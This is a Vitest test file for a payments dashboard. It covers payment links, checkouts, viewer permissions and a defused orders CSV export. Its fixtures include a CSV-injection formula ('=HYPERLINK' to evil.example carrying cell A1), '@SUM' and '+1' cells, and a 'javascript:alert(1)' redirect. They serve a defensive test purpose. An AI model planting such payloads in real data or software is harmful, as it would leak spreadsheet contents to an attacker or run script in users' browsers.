import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp, type TestMerchant } from '../../fixtures/test-app.ts';
import { ordersCsv } from '../../../src/dashboard/orders-csv.ts';
import { parseOrderFilters } from '../../../src/dashboard/queries.ts';
import { addUser, csrfOf, formKeyOf, page, shopHelpers, signIn, submit } from './dashboard-fixtures.ts';

/** The dashboard's payment links, checkouts and orders CSV export through app.inject. */
describe('dashboard payment links, checkouts and CSV export', () => {
  let testApp: TestApp;
  let merchant: TestMerchant;
  let owner: string;
  let support: string;
  let viewer: string;

  const { form, checkoutFor, csvRows, auditActions } = shopHelpers(
    () => testApp,
    () => merchant,
  );

  beforeAll(async () => {
    testApp = await createTestApp();
    merchant = await testApp.createMerchant({ name: 'Shop Links Ltd' });
    await addUser(testApp, merchant.merchantId, 'owner@shop-links.test', 'owner');
    await addUser(testApp, merchant.merchantId, 'support@shop-links.test', 'support');
    await addUser(testApp, merchant.merchantId, 'viewer@shop-links.test', 'viewer');
    owner = await signIn(testApp, 'owner@shop-links.test');
    support = await signIn(testApp, 'support@shop-links.test');
    viewer = await signIn(testApp, 'viewer@shop-links.test');
    await checkoutFor('PLAIN-1', { email: 'first@customer.test' });
  });
  afterAll(() => testApp.close());

  describe('payment links and checkouts', () => {
    const linkFields = (csrf: string, formKey: string) => ({
      csrf_token: csrf,
      form_key: formKey,
      amount: '49.95',
      currency: 'eur',
      description: 'Gift card',
      merchant_order_id: '',
      country: 'dk',
      completed_redirect_url: 'https://shop.example/thanks',
      canceled_redirect_url: 'https://shop.example/',
      usage: 'single',
      max_completions: '',
      valid_days: '7',
    });

    it('creates a link once per form, shows its URL and QR code, opens it and deactivates it', async () => {
      const { html, csrf } = await form(support, '/dashboard/payment-links');
      const formKey = formKeyOf(html, '/dashboard/payment-links');
      const first = await submit(testApp, support, '/dashboard/payment-links', linkFields(csrf, formKey));
      expect(first.statusCode).toBe(303);
      const location = first.headers.location!;
      expect(location).toMatch(/^\/dashboard\/payment-links\/pl_[^?]+\?notice=created$/);
      const again = await submit(testApp, support, '/dashboard/payment-links', linkFields(csrf, formKey));
      expect(again.statusCode).toBe(303);
      expect(again.headers.location).toBe(location.replace('?notice=created', ''));
      const linkId = location.split('/')[3]!.split('?')[0]!;
      const { rows } = await testApp.database.db.query<{ id: string }>(
        'SELECT id FROM payment_links WHERE merchant_id = $1',
        [merchant.merchantId],
      );
      expect(rows.map((row) => row.id)).toEqual([linkId]);

      const api = await testApp.app.inject({
        method: 'GET',
        url: `/v1/payment-links/${linkId}`,
        headers: merchant.headers,
      });
      expect(api.json()).toMatchObject({
        status: 'ACTIVE',
        usage: 'single',
        order: { total_amount: 4995, currency: 'EUR', country_code: 'DK' },
      });
      const url = (api.json() as { url: string }).url;

      const detail = await page(testApp, support, location);
      expect(detail.body).toContain('The payment link was created');
      expect(detail.body).toContain(`value="${url}"`);
      expect(detail.body).toMatch(
        /<div class="dash-qr" role="img" aria-label="QR code of the link [^"]+"><svg /,
      );
      expect(detail.body).toContain('data-copy="link-url" hidden');

      const opened = await testApp.app.inject({ method: 'GET', url: new URL(url).pathname });
      expect(opened.statusCode).toBe(303);
      expect(opened.headers.location).toMatch(/\/pay\//);

      const checkouts = await page(testApp, support, '/dashboard/checkouts');
      expect(checkouts.body).toContain(`href="/dashboard/payment-links/${linkId}"`);
      expect(checkouts.body).toMatch(/href="\/dashboard\/orders\/ord_[^"]+">LINK-/);

      const detailCsrf = csrfOf(detail.body);
      const deactivated = await submit(testApp, support, `/dashboard/payment-links/${linkId}/deactivate`, {
        csrf_token: detailCsrf,
      });
      expect(deactivated.headers.location).toBe(`/dashboard/payment-links/${linkId}?notice=deactivated`);
      const twice = await submit(testApp, support, `/dashboard/payment-links/${linkId}/deactivate`, {
        csrf_token: detailCsrf,
      });
      expect(twice.headers.location).toBe(`/dashboard/payment-links/${linkId}?notice=deactivated`);
      const after = await testApp.app.inject({ method: 'GET', url: new URL(url).pathname });
      expect(after.statusCode).toBe(410);
      expect((await auditActions('payment_link.deactivated')).length).toBe(1);
      expect((await auditActions('payment_link.created'))[0]!.actor_label).toBe('support@shop-links.test');
    });

    it("creates a link without redirect addresses: the shopper then stays on Kassa's own pages", async () => {
      const { html, csrf } = await form(support, '/dashboard/payment-links');
      const formKey = formKeyOf(html, '/dashboard/payment-links');
      const response = await submit(testApp, support, '/dashboard/payment-links', {
        ...linkFields(csrf, formKey),
        merchant_order_id: 'NO-REDIRECTS-1',
        completed_redirect_url: '',
        canceled_redirect_url: '',
      });
      expect(response.statusCode).toBe(303);
      const linkId = response.headers.location!.split('/')[3]!.split('?')[0]!;
      const api = await testApp.app.inject({
        method: 'GET',
        url: `/v1/payment-links/${linkId}`,
        headers: merchant.headers,
      });
      expect(api.statusCode).toBe(200);
      expect(api.json()).toMatchObject({ completed_redirect_url: null, canceled_redirect_url: null });
    });

    it('refuses a viewer on the server and shows the form again with what was wrong', async () => {
      const { csrf } = await form(viewer, '/dashboard/payment-links');
      const refused = await submit(
        testApp,
        viewer,
        '/dashboard/payment-links',
        linkFields(csrf, 'a'.repeat(32)),
      );
      expect(refused.statusCode).toBe(403);

      const own = await form(owner, '/dashboard/payment-links');
      const bad = await submit(testApp, owner, '/dashboard/payment-links', {
        ...linkFields(own.csrf, formKeyOf(own.html, '/dashboard/payment-links')),
        amount: '12.345',
      });
      expect(bad.statusCode).toBe(422);
      expect(bad.body).toContain('Amount: enter an amount such as 12.50');
      const badUrl = await submit(testApp, owner, '/dashboard/payment-links', {
        ...linkFields(own.csrf, formKeyOf(own.html, '/dashboard/payment-links')),
        completed_redirect_url: 'javascript:alert(1)',
      });
      expect(badUrl.statusCode).toBe(422);
      expect(badUrl.body).toContain('After paying, go to');
    });
  });

  describe('orders CSV export', () => {
    it('exports what the filter shows, with formula cells defused and quoted', async () => {
      await checkoutFor('CSV-EVIL', {
        email: 'evil@attacker.test',
        first_name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        last_name: '+1',
      });
      await checkoutFor('@SUM(1+1)', {
        email: 'plain@customer.test',
        first_name: 'Ada',
        last_name: 'Lovelace',
      });

      const all = await page(testApp, viewer, '/dashboard/orders.csv');
      expect(all.statusCode).toBe(200);
      expect(all.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(all.headers['content-disposition']).toMatch(
        /^attachment; filename="orders-test-\d{4}-\d{2}-\d{2}\.csv"$/,
      );
      const rows = csvRows(all.body);
      expect(rows[0]).toBe(
        'order_id,merchant_order_id,status,currency,total,authorized,captured,refunded,customer_email,customer_name,country,created_at',
      );
      const evil = rows.find((row) => row.includes('CSV-EVIL'))!;
      expect(evil).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"") +1"`);
      expect(evil).toContain(',10.00,');
      expect(rows.find((row) => row.includes('SUM'))).toContain(",'@SUM(1+1),");

      const filtered = await page(testApp, viewer, '/dashboard/orders.csv?q=plain%40customer.test');
      const filteredRows = csvRows(filtered.body);
      expect(filteredRows).toHaveLength(2);
      expect(filteredRows[1]).toContain('plain@customer.test');

      const list = await page(testApp, viewer, '/dashboard/orders?status=CREATED');
      const listed = [...list.body.matchAll(/href="\/dashboard\/orders\/(ord_[^"]+)"/g)].map((m) => m[1]);
      const statusCsv = csvRows((await page(testApp, viewer, '/dashboard/orders.csv?status=CREATED')).body);
      expect(statusCsv.slice(1).map((row) => row.split(',')[0])).toEqual(listed);
      expect(list.body).toContain('href="/dashboard/orders.csv?status=CREATED"');
      expect((await auditActions('orders.exported')).length).toBeGreaterThanOrEqual(3);
    });

    it('stops at the row limit and says so in the last line', async () => {
      const scope = { merchantId: merchant.merchantId, livemode: false };
      let text = '';
      for await (const piece of ordersCsv(testApp.database.db, scope, parseOrderFilters({}), 2))
        text += piece;
      const rows = csvRows(text);
      expect(rows).toHaveLength(4);
      expect(rows[3]).toBe(
        '# Export stopped at 2 rows; more orders match. Narrow the filters (e.g. the date range) to export the rest.',
      );
      let exact = '';
      const oneOrder = parseOrderFilters({ q: 'CSV-EVIL' });
      for await (const piece of ordersCsv(testApp.database.db, scope, oneOrder, 1)) exact += piece;
      expect(csvRows(exact)).toHaveLength(2);
    });
  });
});
